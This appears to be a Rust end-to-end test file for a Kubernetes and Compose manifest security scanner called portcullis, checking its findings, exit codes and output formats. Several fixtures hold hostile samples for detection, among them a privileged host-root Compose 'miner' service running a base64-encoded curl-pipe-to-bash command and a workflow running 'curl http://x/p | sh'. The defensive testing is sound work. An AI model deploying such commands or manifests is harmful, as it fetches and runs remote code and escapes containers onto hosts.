//! `portcullis scan` and `portcullis rules` end to end: the built binary on temp files.

mod common;
use common::*;
use std::fs;

const PRIVILEGED: &str = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\n  namespace: apps\nspec:\n  containers:\n  - name: c\n    image: alpine:3.20\n    securityContext:\n      privileged: true\n";
const HOSTNET: &str = "apiVersion: v1\nkind: Pod\nmetadata:\n  name: n\n  namespace: apps\n  ownerReferences: [{kind: ReplicaSet, name: rs, apiVersion: apps/v1, uid: u, controller: true}]\nspec:\n  hostNetwork: true\n  containers:\n  - name: c\n    image: registry.k8s.io/pause:3.9\n";

#[test]
fn malformed_inputs_are_located_and_the_batch_goes_on() {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path();
    fs::write(
        p.join("a-bad.yaml"),
        "kind: Pod\nmetadata:\n  name: x\nspec: [unclosed\n",
    )
    .expect("w");
    fs::write(p.join("b-scalar.yaml"), "---\njust a string\n").expect("w");
    fs::write(p.join("c-kind0.json"), "{\"kind\": 0}\n").expect("w");
    fs::write(
        p.join("d-truncated.json"),
        "{\"kind\": \"Pod\", \"spec\": {\"containers\": [",
    )
    .expect("w");
    fs::write(
        p.join("e-not-utf8.yaml"),
        b"kind: Pod\nmetadata: {name: \xff}\n",
    )
    .expect("w");
    // 50 MB: refused before parsing, with its name.
    let big = "# padding\n".repeat(5 * 1024 * 1024);
    fs::write(p.join("f-big.yaml"), format!("{PRIVILEGED}{big}")).expect("w");
    fs::write(
        p.join("g-good.yaml"),
        format!("{PRIVILEGED}---\n- a list\n---\n{HOSTNET}"),
    )
    .expect("w");
    let out = run(&["scan", p.to_str().expect("utf8"), "--format", "jsonl"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "input errors exit 2: {err}");
    assert!(!err.contains("panicked"), "{err}");
    let line_of = |name: &str| {
        err.lines()
            .find(|l| l.contains(name))
            .unwrap_or_else(|| panic!("no error for {name}: {err}"))
            .to_string()
    };
    assert!(line_of("a-bad.yaml").contains("a-bad.yaml:4"), "{err}");
    assert!(
        line_of("b-scalar.yaml").contains("b-scalar.yaml:2: document is a string"),
        "{err}"
    );
    assert!(
        line_of("c-kind0.json").contains("c-kind0.json:1: field kind: expected a string"),
        "{err}"
    );
    assert!(
        line_of("d-truncated.json").contains("d-truncated.json:1:"),
        "{err}"
    );
    assert!(
        line_of("e-not-utf8.yaml").contains("e-not-utf8.yaml:2: not UTF-8"),
        "{err}"
    );
    assert!(line_of("f-big.yaml").contains("larger than"), "{err}");
    assert!(
        line_of("g-good.yaml").contains("g-good.yaml:13: document is a list"),
        "{err}"
    );
    // The good documents were still judged, with their own lines.
    let a = alerts(&out);
    let good: Vec<_> = a
        .iter()
        .filter(|x| {
            x["source"]["file"]
                .as_str()
                .is_some_and(|f| f.ends_with("g-good.yaml"))
        })
        .collect();
    assert!(
        good.iter()
            .any(|x| x["rule"]["id"] == "PRV001" && x["source"]["line"] == 1),
        "{good:?}"
    );
    assert!(
        good.iter().any(|x| x["rule"]["id"] == "PRV004"
            && x["source"]["line"] == 15
            && x["source"]["document"] == 2),
        "{good:?}"
    );
    assert!(!a.iter().any(|x| {
        x["source"]["file"]
            .as_str()
            .is_some_and(|f| f.ends_with("f-big.yaml"))
    }));
}

#[test]
fn exit_codes_follow_fail_on() {
    let dir = tempfile::tempdir().expect("tmp");
    let f = dir.path().join("n.yaml");
    fs::write(&f, HOSTNET).expect("w");
    let f = f.to_str().expect("utf8");
    assert_eq!(
        run(&["scan", f, "--format", "json"]).status.code(),
        Some(0),
        "medium < default high"
    );
    assert_eq!(
        run(&["scan", f, "--format", "json", "--fail-on", "medium"])
            .status
            .code(),
        Some(1)
    );
    assert_eq!(
        run(&[
            "scan",
            f,
            "--ignore",
            "PRV004",
            "--fail-on",
            "low",
            "--format",
            "json"
        ])
        .status
        .code(),
        Some(0)
    );
    assert_eq!(
        run(&["scan", f, "--pss", "strict"]).status.code(),
        Some(2),
        "usage error"
    );
    assert_eq!(
        run(&["scan", f, "--fail-on", "severe"]).status.code(),
        Some(2),
        "usage error"
    );
    let missing = run(&["scan", "/nonexistent/x.yaml", "--format", "json"]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("/nonexistent/x.yaml: cannot open"));
}

#[test]
fn stdin_select_and_alert_schema() {
    let out = run_stdin(
        &["scan", "-", "--format", "jsonl", "--select", "PRV,MNT"],
        PRIVILEGED,
    );
    assert_eq!(out.status.code(), Some(1));
    let a = alerts(&out);
    assert!(!a.is_empty());
    assert!(
        a.iter()
            .all(|x| ["PRV", "MNT"].contains(&x["rule"]["family"].as_str().unwrap_or("")))
    );
    let x = a
        .iter()
        .find(|x| x["rule"]["id"] == "PRV001")
        .expect("PRV001");
    // The schema of docs/alert-schema.md.
    assert_eq!(x["rule"]["name"], "privileged-container");
    assert_eq!(x["severity"], "critical");
    assert_eq!(x["attack"], serde_json::json!(["T1610", "T1611"]));
    assert_eq!(x["source"]["kind"], "manifest");
    assert_eq!(x["source"]["file"], "-");
    assert_eq!(x["source"]["line"], 1);
    assert_eq!(
        x["target"],
        serde_json::json!({"kind": "Pod", "api_version": "v1", "namespace": "apps", "name": "p"})
    );
    assert_eq!(x["container"]["name"], "c");
    assert_eq!(x["container"]["path"], "spec.containers[0]");
    assert_eq!(x["images"], serde_json::json!(["alpine:3.20"]));
    assert_eq!(x["outcome"], "unknown");
    assert_eq!(x["operation"], "declare");
    assert_eq!(x["evidence"][0]["field"], "container.privileged");
    assert_eq!(x["evidence"][0]["value"], true);
    assert!(x.get("pss").is_none());
}

#[test]
fn pss_findings_carry_level_version_and_check() {
    let out = run_stdin(
        &[
            "scan",
            "-",
            "--format",
            "jsonl",
            "--pss",
            "restricted:v1.30",
            "--select",
            "PSS",
        ],
        PRIVILEGED,
    );
    let a = alerts(&out);
    let p = a
        .iter()
        .find(|x| x["pss"]["check"] == "privileged")
        .expect("privileged check");
    assert_eq!(p["pss"]["level"], "restricted");
    assert_eq!(p["pss"]["version"], "v1.30");
    assert!(
        p["message"]
            .as_str()
            .unwrap_or("")
            .contains("container \"c\" must not set securityContext.privileged=true"),
        "{p}"
    );
    let checks: Vec<&str> = a
        .iter()
        .filter_map(|x| x["pss"]["check"].as_str())
        .collect();
    for c in [
        "allowPrivilegeEscalation",
        "runAsNonRoot",
        "seccompProfile_restricted",
        "capabilities_restricted",
    ] {
        assert!(checks.contains(&c), "{checks:?}");
    }
}

#[test]
fn inline_suppression_names_codes_and_is_counted() {
    let text = PRIVILEGED.replace(
        "  namespace: apps\n",
        "  namespace: apps\n  annotations:\n    portcullis.dev/ignore: \"PRV001, IMG\"\n",
    );
    let out = run_stdin(&["scan", "-", "--format", "table"], &text);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("PRV001"), "{stdout}");
    assert!(!stdout.contains("IMG00"), "{stdout}");
    assert!(stdout.contains("finding(s) suppressed"), "{stdout}");
    assert!(!stdout.contains(" 0 finding(s) suppressed"), "{stdout}");
}

#[test]
fn table_ends_with_a_summary() {
    let out = run_stdin(&["scan", "-", "--format", "table"], PRIVILEGED);
    let s = String::from_utf8_lossy(&out.stdout);
    assert!(s.contains("PRV001 privileged-container"), "{s}");
    assert!(s.contains("alerts: 1 critical"), "{s}");
    assert!(
        s.contains("1 file(s), 1 document(s), 1 workload(s) scanned"),
        "{s}"
    );
}

#[test]
fn sarif_is_code_scanning_shaped() {
    let out = run_stdin(&["scan", "-", "--format", "sarif"], PRIVILEGED);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("SARIF is JSON");
    assert_eq!(v["version"], "2.1.0");
    let run = &v["runs"][0];
    assert_eq!(run["tool"]["driver"]["name"], "portcullis");
    let rules = run["tool"]["driver"]["rules"].as_array().expect("rules");
    assert!(rules.len() >= 60);
    let r = run["results"]
        .as_array()
        .expect("results")
        .iter()
        .find(|r| r["ruleId"] == "PRV001")
        .expect("result");
    assert_eq!(r["level"], "error");
    assert_eq!(
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "stdin"
    );
    assert_eq!(
        r["locations"][0]["physicalLocation"]["region"]["startLine"],
        1
    );
    let idx = r["ruleIndex"].as_u64().expect("ruleIndex") as usize;
    assert_eq!(rules[idx]["id"], "PRV001");
    assert_eq!(rules[idx]["properties"]["security-severity"], "9.5");
    assert!(r["partialFingerprints"]["portcullis/v1"].is_string());
}

#[test]
fn compose_files_are_judged_by_the_same_rules() {
    let text = "services:\n  miner:\n    image: alpineos/dockerapi\n    privileged: true\n    network_mode: host\n    volumes: ['/:/host']\n    command: chroot /host bash -c 'echo Y3VybCB4IHwgc2g= | base64 -d | bash'\n";
    let out = run_stdin(&["scan", "-", "--format", "jsonl"], text);
    let codes: Vec<String> = alerts(&out)
        .iter()
        .map(|x| x["rule"]["id"].as_str().unwrap_or("").to_string())
        .collect();
    for c in ["PRV001", "PRV004", "MNT001", "IMG005", "PAY002", "PAY005"] {
        assert!(codes.iter().any(|x| x == c), "{c} missing from {codes:?}");
    }
    assert!(
        alerts(&out)
            .iter()
            .all(|x| x["source"]["kind"] == "compose" && x["source"]["line"] == 2)
    );
}

#[test]
fn crd_pod_templates_are_found_by_shape() {
    let text = "apiVersion: kubeflow.org/v1\nkind: Notebook\nmetadata: {name: nb, namespace: team}\nspec:\n  template:\n    spec:\n      containers:\n      - name: notebook\n        image: ddsfdfsaadfs/dfsdf:99\n        securityContext: {privileged: true}\n---\napiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {generateName: wf-}\nspec:\n  templates:\n  - name: main\n    container:\n      image: alpine:3.20\n      command: [sh, -c, 'curl http://x/p | sh']\n---\napiVersion: tekton.dev/v1\nkind: Task\nmetadata: {name: t}\nspec:\n  steps:\n  - name: s\n    image: alpine:3.20\n    securityContext: {capabilities: {add: [SYS_ADMIN]}}\n";
    let a = alerts(&run_stdin(&["scan", "-", "--format", "jsonl"], text));
    let has = |kind: &str, code: &str| {
        a.iter()
            .any(|x| x["target"]["kind"] == kind && x["rule"]["id"] == code)
    };
    assert!(
        has("Notebook", "PRV001") && has("Notebook", "IMG005"),
        "{a:?}"
    );
    assert!(has("Workflow", "PAY001"), "{a:?}");
    assert!(has("Task", "PRV006"), "{a:?}");
    let nb = a.iter().find(|x| x["rule"]["id"] == "PRV001").expect("nb");
    assert_eq!(nb["container"]["path"], "spec.template.spec.containers[0]");
}

#[test]
fn rules_list_show_and_docs_agree() {
    let list = String::from_utf8_lossy(&run(&["rules", "list"]).stdout).to_string();
    assert!(list.lines().count() >= 60);
    assert!(
        list.contains("PRV001  critical  container  privileged-container"),
        "{list}"
    );
    let show = run(&["rules", "show", "prv001"]);
    let text = String::from_utf8_lossy(&show.stdout).to_string();
    assert!(text.starts_with("# PRV001 privileged-container"), "{text}");
    for h in [
        "## What it detects",
        "## Why it matters",
        "## Example",
        "## Tuning",
        "## Prevention",
        "## References",
    ] {
        assert!(text.contains(h), "{h}");
    }
    // The committed docs are generated from the same registry.
    let committed = fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../docs/rules/PRV001.md"
    ))
    .expect("docs/rules/PRV001.md");
    assert_eq!(committed, text);
    let check = run(&[
        "rules",
        "docs",
        "--check",
        "--out",
        concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/rules"),
    ]);
    assert_eq!(
        check.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&check.stderr)
    );
    assert_eq!(run(&["rules", "show", "NOPE999"]).status.code(), Some(2));
}

#[test]
fn bad_user_rules_are_reported_with_file_and_line_and_nothing_runs() {
    let dir = tempfile::tempdir().expect("tmp");
    let rules = dir.path().join("mine.yaml");
    fs::write(&rules, "rules:\n  - code: USR001\n    name: mine\n    severity: high\n    attack: [T1610]\n    scope: container\n    condition: container.privilegd\n    message: m\n    docs: {summary: s, detects: d, why: w, example: e, tuning: t, prevention: p}\n").expect("w");
    let out = run_stdin(
        &["scan", "-", "--rules", rules.to_str().expect("utf8")],
        PRIVILEGED,
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        err.contains("mine.yaml:2: rule USR001: condition: unknown name container.privilegd"),
        "{err}"
    );
    assert!(err.contains("did you mean container.privileged"), "{err}");
}

#[test]
fn scan_refuses_what_two_consumers_read_differently_and_resolves_compose() {
    let dir = tempfile::tempdir().expect("tmp");
    let p = dir.path();
    // JSON with a key given twice: kubectl keeps the last, the API server merges.
    fs::write(
        p.join("dup.json"),
        "{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"name\":\"d\"},\"spec\":{\"containers\":[{\"name\":\"c\",\"image\":\"x\",\"securityContext\":{\"privileged\":true},\"securityContext\":{}}]}}\n",
    )
    .expect("w");
    // A byte-order mark and a bad first document hide nothing after them.
    fs::write(
        p.join("bom.json"),
        "\u{feff}{\"kind\":\"Pod\",bad}\n{\"apiVersion\":\"v1\",\"kind\":\"Pod\",\"metadata\":{\"name\":\"after\"},\"spec\":{\"containers\":[{\"name\":\"c\",\"image\":\"x\",\"securityContext\":{\"privileged\":true}}]}}\n",
    )
    .expect("w");
    // Compose: extends from another file, and a named volume that binds the host root.
    fs::write(
        p.join("base.yaml"),
        "services:\n  priv:\n    image: alpine\n    privileged: true\n",
    )
    .expect("w");
    fs::write(
        p.join("compose.yaml"),
        "services:\n  app:\n    extends: {file: base.yaml, service: priv}\n  data:\n    image: alpine\n    volumes: [\"root:/host\"]\nvolumes:\n  root:\n    driver_opts: {type: none, o: bind, device: /}\n",
    )
    .expect("w");
    let out = run(&[
        "scan",
        "--format",
        "jsonl",
        p.join("dup.json").to_str().expect("utf8"),
        p.join("bom.json").to_str().expect("utf8"),
        p.join("compose.yaml").to_str().expect("utf8"),
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("dup.json:1: field spec.containers[0].securityContext: key given twice"),
        "{err}"
    );
    assert!(err.contains("bom.json:1:"), "{err}");
    let a = alerts(&out);
    let hit = |name: &str, code: &str| {
        a.iter()
            .any(|x| x["target"]["name"] == name && x["rule"]["id"] == code)
    };
    assert!(hit("after", "PRV001"), "{a:#?}");
    assert!(hit("app", "PRV001"), "extends from base.yaml");
    assert!(hit("data", "MNT001"), "named volume binding /");
    assert!(
        !a.iter().any(|x| x["target"]["name"] == "d"),
        "the refused pod is not judged"
    );
}

#[test]
fn an_openshift_deployment_config_without_containers_is_still_judged() {
    let dir = tempfile::tempdir().expect("tmp");
    let f = dir.path().join("dc.yaml");
    fs::write(
        &f,
        "apiVersion: apps.openshift.io/v1\nkind: DeploymentConfig\nmetadata: {name: dc, namespace: apps}\nspec:\n  template:\n    spec:\n      hostPID: true\n",
    )
    .expect("w");
    let out = run(&["scan", "--format", "jsonl", f.to_str().expect("utf8")]);
    let a = alerts(&out);
    assert!(
        a.iter()
            .any(|x| x["rule"]["id"] == "PRV002" && x["target"]["kind"] == "DeploymentConfig"),
        "{a:#?} {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn every_command_renders_csv_and_hunt_renders_sarif() {
    // scan: a header and one row an alert, quoted where a message holds a comma.
    let out = run_stdin(&["scan", "-", "--format", "csv"], PRIVILEGED);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let mut lines = text.lines();
    assert!(
        lines
            .next()
            .unwrap_or("")
            .starts_with("time,severity,rule_id"),
        "{text}"
    );
    let rows: Vec<&str> = lines.collect();
    assert!(rows.iter().any(|r| r.contains("PRV001")), "{text}");
    // hunt: SARIF, the same document shape scan writes.
    let dir = tempfile::tempdir().expect("tmp");
    let log = dir.path().join("audit.log");
    std::fs::write(
        &log,
        r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"s1","stage":"ResponseComplete","verb":"create","user":{"username":"alice"},"objectRef":{"resource":"pods","namespace":"default","name":"p"},"responseStatus":{"code":201},"requestObject":{"kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"alpine","securityContext":{"privileged":true}}]}}}"#,
    )
    .expect("write");
    let out = run(&[
        "hunt",
        "--format",
        "sarif",
        "--quiet",
        log.to_str().unwrap_or(""),
    ]);
    let sarif: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("hunt's SARIF is one JSON document");
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(results.iter().any(|r| r["ruleId"] == "PRV001"), "{sarif}");
}
